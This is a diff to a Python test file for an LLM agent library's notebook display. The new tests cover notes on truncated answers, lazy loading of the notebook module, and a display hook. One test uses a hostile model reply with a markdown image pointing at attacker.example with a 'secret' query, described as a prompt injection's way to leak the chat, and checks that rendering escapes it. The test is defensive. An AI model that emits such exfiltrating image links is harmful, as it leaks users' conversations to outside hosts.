@@ -19,10 +19,12 @@ import pytest
 
 from examples.weather import get_weather
 from functionary_agent import Conversation, ModelError
+from functionary_agent._display import display_hook
 from functionary_agent._run.interpreter import PythonTool
 from functionary_agent.events import FinalAnswer, TextDelta, ToolCallArgumentsDelta, ToolCallStarted, ToolResult
 from functionary_agent.notebook import (
     LiveDisplay,
+    NotebookDisplay,
     image_resolver,
     render_html,
     render_markdown,
@@ -198,6 +200,19 @@ def test_live_display_matches_results_to_their_calls_in_completion_order() -> No
     assert text_b[-1]["text/markdown"] == "Both done." and live.answer == "Both done."
 
 
+def test_live_display_says_a_cut_answer_was_cut() -> None:
+    screen = _Screen()
+    live = _live(screen)
+    live.handle(TextDelta("The capital of Fra"))
+    live.handle(FinalAnswer("The capital of Fra", finish_reason="length", truncated=True))
+    text, note = screen.displays
+    assert text[-1]["text/markdown"] == "The capital of Fra"
+    assert "Cut short (finish_reason=length)" in note[-1]["text/plain"] and "fa-truncated" in note[-1]["text/html"]
+    whole = _Screen()
+    _live(whole).handle(FinalAnswer("Paris.", finish_reason="stop"))
+    assert len(whole.displays) == 1  # an answer that was not cut gets no note
+
+
 def test_live_display_merges_fast_updates_but_ends_complete() -> None:
     now = [0.0]
     screen = _Screen()
@@ -278,6 +293,34 @@ def test_plain_python_and_terminal_ipython_are_not_notebooks() -> None:
         capture_output=True, text=True, timeout=60, cwd=ROOT,
     )
     assert "in_notebook False" in terminal.stdout, terminal.stderr
+
+
+# -- the hook the core calls ---------------------------------------------------------------------------------
+def test_plain_python_loads_no_notebook_until_asked_and_importing_it_registers_the_hook() -> None:
+    code = (
+        "import sys\nimport functionary_agent\nfrom functionary_agent._display import display_hook\n"
+        "print('functionary_agent.notebook' in sys.modules, display_hook())\n"
+        "import functionary_agent.notebook\n"
+        "print(type(display_hook()).__name__, 'IPython' in sys.modules)"
+    )
+    plain = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60, cwd=ROOT)
+    assert plain.stdout.split("\n")[:2] == ["False None", "NotebookDisplay False"], plain.stderr
+
+
+def test_the_hook_runs_and_renders_as_the_notebook_does(caplog: pytest.LogCaptureFixture) -> None:
+    """What `Conversation` reaches through the hook is the guarded rendering: model text that writes a tag and a
+    remote image (a prompt injection's way to leak the chat) shows neither as markup."""
+    hook = display_hook()
+    assert isinstance(hook, NotebookDisplay)
+    hostile = "Lima is <b>fine</b> ![x](https://attacker.example/?q=secret)"
+    chat = _weather_chat({"tool_calls": [call("get_weather", {"location": "Lima"})]}, hostile)
+    with caplog.at_level(logging.WARNING, logger="functionary_agent.notebook"):
+        assert hook.submit(chat, "Lima?") == hostile
+    assert "no IPython shell" in caplog.text and not hook.in_notebook()
+    page = hook.html(chat)
+    assert page == render_html(chat.messages) and "<b>" not in page and "<img" not in page
+    assert hook.markdown(chat) == render_markdown(chat.messages)
+    assert "\\<b>" in hook.markdown(chat) and "!\\[x]" in hook.markdown(chat)
 
 
 # -- on a real kernel ---------------------------------------------------------------------------------------
